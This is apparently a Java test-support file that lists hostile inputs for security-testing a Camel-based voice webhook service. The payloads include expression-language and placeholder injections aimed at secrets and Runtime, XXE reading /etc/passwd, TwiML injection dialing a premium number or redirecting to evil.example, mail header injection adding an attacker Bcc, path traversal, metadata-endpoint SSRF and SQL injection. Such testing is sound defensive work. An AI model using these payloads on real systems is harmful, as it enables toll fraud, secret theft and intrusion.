package io.voicewebhooks.attack;

import io.voicewebhooks.testkit.Twilio;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Map.Entry;

/** What callers can write, and where. */
final class Hostile {
    /** A number that nobody but an attacker wants to be called. */
    static final String PREMIUM = "+19005550100";

    /** Texts that mean something to a part of this application, or to what it speaks to. */
    static final List<String> TEXTS = List.of(
            // Simple, the expression language of the routes
            "${sys.user.home}",
            "${env.HOME} ${env:HOME}",
            "${properties:twilio.auth-token} ${properties:voice.sink.http.secret}",
            "${bean:java.lang.Runtime?method=getRuntime} ${ref:mailSender} ${bean:canary?method=incrementAndGet}",
            "${camelContext.stop} ${exchange.context.stop}",
            "${load(file:application.properties)} $simple{sys.user.home}",
            "${body.getClass().forName('java.lang.Runtime')}",
            "', 'to', '${sys.user.home}') ${map('a', 'b')} ' + '${sys.user.home}' + '",
            "${header.type ? '${sys.user.home}' : 'b'}",
            "\\${sys.user.home} $\\{sys.user.home} ${",
            "} ${variable.event.id} }}",
            // Camel's property placeholders and Mustache
            "{{twilio.auth-token}} {{voice.sink.http.secret}} {{voice.sink.s3.secret-key}}",
            "{{env:HOME}} {{sys:user.home}} {{bean:mailSender.password}} {{?x}} {{!x}}",
            "{{#From}} {{^From}} {{/From}} {{>email/notice}} {{{From}}} {{&From}} {{=<% %>=}}",
            // XML and HTML
            "]]>",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "</Say><Dial><Number>" + PREMIUM + "</Number></Dial><Say>",
            "\"/><Redirect>http://evil.example/</Redirect><Say language=\"",
            "' onload='alert(1)' x='",
            "</td><script>alert(1)</script><img src=x onerror=alert(1)><a href=\"http://evil.example\">",
            "<?xml version=\"1.0\"?><!-- -- --> &amp; &#60;b&#62; \uFFFE\uFFFF",
            // headers, lines and parts of a mail
            "Eve\r\nBcc: attacker@evil.example\r\nSubject: won\r\n\r\n<b>hello</b>",
            "Eve\nBcc: attacker@evil.example\n\n.\nMAIL FROM:<attacker@evil.example>\n",
            "\r\n.\r\nRCPT TO:<attacker@evil.example>\r\n",
            "\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<b>part</b>\r\n--boundary--\r\n",
            "\r\n------=_Part_0_1234567890.1234567890\r\nContent-Disposition: attachment; filename=evil.exe\r\n\r\nMZ",
            "=?utf-8?B?PGI+?= =0D=0ABcc: attacker@evil.example",
            // log lines and terminals
            "Eve\n2026-11-24T12:00:00.000Z ERROR [main] forged - line",
            "Eve\u2028forged\u2029line\u0085line\u000bline",
            "\u001b[2J\u001b[31mred\u009b31m\u0007",
            "\u202Egnp.exe\u2066\u2069",
            // names of files, objects, destinations and addresses
            "../../../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd\u0000.wav",
            "file:///etc/passwd",
            "jms:queue:voice.stolen",
            "direct:invalid?x=y&z",
            "http://169.254.169.254/latest/meta-data/",
            // bytes that end texts, escapes that are decoded twice, formats
            "Eve\u0000Adam",
            "%0d%0aX-Injected: yes %00 %2e%2e%2f %7B%7Btwilio.auth-token%7D%7D",
            "%s%n%x%n %1$s",
            "' OR '1'='1' --",
            "\" OR JMSPriority > 0 OR \"",
            // whom a flow might dial
            PREMIUM,
            "sip:attacker@evil.example",
            "client:attacker",
            // length and letters
            "A".repeat(4_000),
            "\u20ac".repeat(400),
            "名前 😀 Zoë \u0301",
            " ");

    /** Names that mean something to Camel, to JMS, to a mail session, or to a template and that a caller may choose. */
    static final List<String> NAMES = List.of(
            "Subject",
            "Bcc",
            "Cc",
            "Reply-To",
            "Sender",
            "Content-Type",
            "Content-Disposition",
            "MIME-Version",
            "mail.smtp.host",
            "mail.smtp.proxy.host",
            "mail.smtp.from",
            "mail_DOT_smtp_DOT_host",
            "CamelHttpUri",
            "CAmelHttpUri",
            "camelhttppath",
            "CAmelHttpQuery",
            "CamelHttpMethod",
            "CAmelHttpMethod",
            "CamelHttpResponseCode",
            "CamelFileName",
            "CAmelFileName",
            "CamelAwsS3Key",
            "CAmelAwsS3Key",
            "CAmelAwsS3BucketName",
            "CAmelJmsDestinationName",
            "CamelJmsDestination",
            "CAmelJmsMessageType",
            "CamelBeanMethodName",
            "CamelMailAlternativeBody",
            "JMSReplyTo",
            "JMSDestination",
            "JMSType",
            "JMSXGroupID",
            "JMSCorrelationID",
            "_AMQ_DUPL_ID",
            "_AMQ_SCHED_DELIVERY",
            "_AMQ_GROUP_ID",
            "type",
            "eventId",
            "callSid",
            "deliverySink",
            "deliveryAttempts",
            "retryQueue",
            "retryDelay",
            "Authorization",
            "Host",
            "Transfer-Encoding",
            "webhook-id",
            "webhook-signature",
            "forwardTo",
            "ringSeconds",
            "greeting",
            "goodbye",
            "mailbox",
            "publicUrl",
            "statusCallback",
            "recordingCallback",
            "audioLink",
            "caller",
            "called",
            "kind",
            "event",
            "context",
            "context.from",
            "context.to",
            "context.mailbox",
            "archive",
            "archive.key",
            "X-Injected: yes",
            "${sys.user.home}",
            "{{twilio.auth-token}}",
            "../../etc/passwd",
            "<b>\"'&",
            "\u0000");

    /** Where a caller's text stands in a webhook: number or SIP address, name, speech, keys, SIP headers, custom names. */
    private static final List<String> PLACES = List.of(
            "From",
            "To",
            "Caller",
            "Called",
            "CallerName",
            "ForwardedFrom",
            "SpeechResult",
            "Digits",
            "SipUsername",
            "SipHeader_X-Note",
            "note");

    private Hostile() {}

    /** The webhook with a text in every place that a caller chooses. */
    static List<Entry<String, String>> says(String text, List<Entry<String, String>> webhook) {
        List<String> changes = new ArrayList<>();
        PLACES.forEach(place -> changes.addAll(List.of(place, text)));
        return Twilio.with(webhook, changes.toArray(String[]::new));
    }

    /** The webhook with every hostile name, each with the same value. */
    static List<Entry<String, String>> names(String value, List<Entry<String, String>> webhook) {
        List<Entry<String, String>> form = new ArrayList<>(webhook);
        NAMES.forEach(name -> form.add(Map.entry(name, value)));
        return form;
    }
}
